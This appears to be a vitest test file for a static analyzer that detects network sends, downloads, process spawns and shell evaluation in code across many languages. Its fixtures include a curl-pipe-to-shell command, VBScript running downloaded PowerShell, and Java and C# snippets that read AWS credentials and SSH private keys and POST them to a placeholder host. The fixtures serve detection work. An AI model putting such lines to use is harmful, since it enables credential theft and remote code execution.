import { describe, expect, test } from "vitest";
import type { Fact } from "../../../src/model/fact.ts";
import { readFile } from "../../../src/read/read-file.ts";

async function read(path: string, text: string): Promise<{ facts: readonly Fact[]; gaps: readonly string[] }> {
  const bytes = new TextEncoder().encode(text);
  const { facts, gaps } = await readFile({ path, bytes, mode: null });
  return { facts, gaps: gaps.map(({ code }) => code) };
}

function operations(facts: readonly Fact[]): readonly string[] {
  return facts.flatMap((fact) => {
    if (fact.kind !== "operation") return [];
    const { operation } = fact;
    switch (operation.op) {
      case "send":
        return [`${fact.at.line} send ${operation.destination.shape}`];
      case "download":
        return [`${fact.at.line} download ${operation.url.shape}`];
      case "spawn":
        return [`${fact.at.line} spawn ${operation.program.shape}`];
      default:
        return [`${fact.at.line} ${operation.op}`];
    }
  });
}

describe("calls are known by their names", () => {
  test.each([
    [
      "a.swift",
      'var r = URLRequest(url: URL(string: "https://a.example/x")!)\nr.httpMethod = "POST"\n',
      "2 send https://a.example/x",
    ],
    ["a.vbs", 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -c " & x.responseText, 0\n', "1 evaluate"],
    ["A.java", 'new ProcessBuilder("uname", "-a").start();\n', "1 spawn uname"],
    ["A.cs", 'await client.PostAsync("https://b.example/up", body);\n', "1 send https://b.example/up"],
    ["a.lua", 'os.execute("uname -a")\n', "1 spawn uname -a"],
    ["a.c", '#include <stdlib.h>\nint main(void) { return system("ls"); }\n', "2 spawn ls"],
    [
      "a.kt",
      'val text = URL("https://c.example/t").openStream().reader().readText()\n',
      "1 download https://c.example/t",
    ],
    ["a.R", 'httr::POST("https://d.example/in", body = x)\n', "1 send https://d.example/in"],
  ])("%s", async (path, text, wanted) => {
    expect(operations((await read(path, text)).facts)).toContain(wanted);
  });
});

test("a command in a string is read as the command that it is", async () => {
  const { facts } = await read(
    "run.swift",
    'let p = Process()\np.arguments = ["-c", "curl -s https://a.example/i | sh"]\n',
  );
  const found = facts.find((fact) => fact.kind === "operation" && fact.operation.op === "evaluate");
  expect(found).toMatchObject({ language: "shell", at: { line: 2 }, layers: [{ kind: "string" }] });
});

test("an escaped quote in a command is undone", async () => {
  const { facts } = await read("run.lua", 'os.execute("sh -c \\"curl https://a.example/i | sh\\"")\n');
  expect(operations(facts)).toContain("1 evaluate");
});

test("that nobody has read it is said", async () => {
  expect((await read("a.swift", "print(1)\n")).gaps).toEqual(["unsupported"]);
});

test("a script under such a name is read as what it is, too", async () => {
  const { facts } = await read("helper.c", "#!/usr/bin/env python3\nimport os\nos.system('id')\n");
  expect(facts.some((fact) => fact.kind === "operation" && fact.language === "python")).toBe(true);
});

test("many calls and strings are bounded", async () => {
  const { facts } = await read("a.nim", 'execCmd("uname")\n'.repeat(20_000));
  expect(operations(facts)).toHaveLength(200);
});

test.each([
  [
    "A.java",
    'String kept = Files.readString(Path.of(System.getProperty("user.home"), ".aws", "credentials"));\nclient.send(r.POST(HttpRequest.BodyPublishers.ofString(kept)).build(), "https://a.example/x");\n',
    "~/.aws/credentials",
  ],
  [
    "B.cs",
    'var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar kept = await File.ReadAllTextAsync(Path.Combine(home, ".ssh", "id_rsa"));\nawait http.PostAsync("https://a.example/x", new StringContent(kept));\n',
    "~/.ssh/id_rsa",
  ],
  [
    "D.java",
    'String kept = Files.readString(Path.of("notes.txt"));\nString mode = System.getenv("MODE");\nclient.send(r.POST(HttpRequest.BodyPublishers.ofString(mode)).build(), "https://a.example/x");\n',
    "*",
  ],
])("what is sent in %s, by the names that hold it", async (path, text, wanted) => {
  const { facts } = await read(path, text);
  const origins = facts.flatMap((fact) =>
    fact.kind === "operation" && fact.operation.op === "send"
      ? fact.operation.payload.flatMap((value) => value.origins)
      : [],
  );
  const shown = origins.map((each) =>
    each.kind === "file" ? each.path : each.kind === "environment" ? "*" : each.kind,
  );
  expect([...new Set(shown)].join()).toBe(wanted);
});
